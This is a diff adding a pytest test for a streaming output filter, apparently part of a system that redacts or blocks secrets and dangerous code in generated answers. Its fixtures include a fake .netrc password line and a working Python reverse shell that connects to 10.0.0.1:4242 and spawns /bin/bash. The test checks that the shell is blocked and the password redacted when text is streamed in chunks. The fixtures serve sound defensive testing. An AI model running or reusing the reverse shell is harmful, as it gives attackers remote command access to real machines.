@@ -273,6 +273,33 @@ def stream_through(f: StreamFilter, text: str, sizes: list[int]) -> list[str]:
     return chunks
 
 
+_RUNBOOK = "".join(f"# step {i}: keep the listener settings in sync with the operator's runbook entry\n" for i in range(4))
+FAR_CONTEXT = {  # rules that read far around a match: a long line, and a `context_chars` rule across lines
+    "netrc-long-host": "machine " + "build-artifacts-" * 11 + ".example.net login deploy password Hunter2Pass9\n",
+    "revshell-spread-out": "```python\nimport os, pty, socket\n\ndef attach(conn):\n    os.dup2(conn.fileno(), 0)\n"
+                           "    os.dup2(conn.fileno(), 1)\n    os.dup2(conn.fileno(), 2)\n    pty.spawn(\"/bin/bash\")\n\n"
+                           + _RUNBOOK + "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
+                           's.connect(("10.0.0.1", 4242))\nattach(s)\n```\n',
+}
+
+
+@pytest.mark.parametrize("name", sorted(FAR_CONTEXT))
+@pytest.mark.parametrize("size", [1, 4, 17])
+def test_a_stream_acts_like_the_whole_answer_when_a_rule_reads_far_back(output, policy, name, size):
+    """The released context reaches back to the line start and a rule's context_chars (a review found both
+    passed when streamed and were caught whole)."""
+    text, low = FAR_CONTEXT[name], policy.risk["low"]
+    whole = [f for f in output.scan(text, low) if f.action in ("redact", "block")]
+    assert whole, "the one-shot scan catches it"
+    f = StreamFilter(lambda t: output.scan(t, low), output.hold_keywords(low), policy.stream.holdback_chars,
+                     policy.stream.max_pending_chars, context=output.context_chars(low))
+    streamed = "".join(stream_through(f, text, [size]))
+    if any(h.action == "block" for h in whole):
+        assert f.blocked and streamed != text and "attach(s)" not in streamed
+    else:
+        assert streamed == redact(text, whole) and "Hunter2Pass9" not in streamed
+
+
 @pytest.mark.parametrize("sizes", [[1], [2, 3], [5], [7, 1, 13], [64]], ids=str)
 def test_stream_never_releases_a_secret_in_any_chunk(output, policy, sizes):
     key = "AKIA" + rand("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)
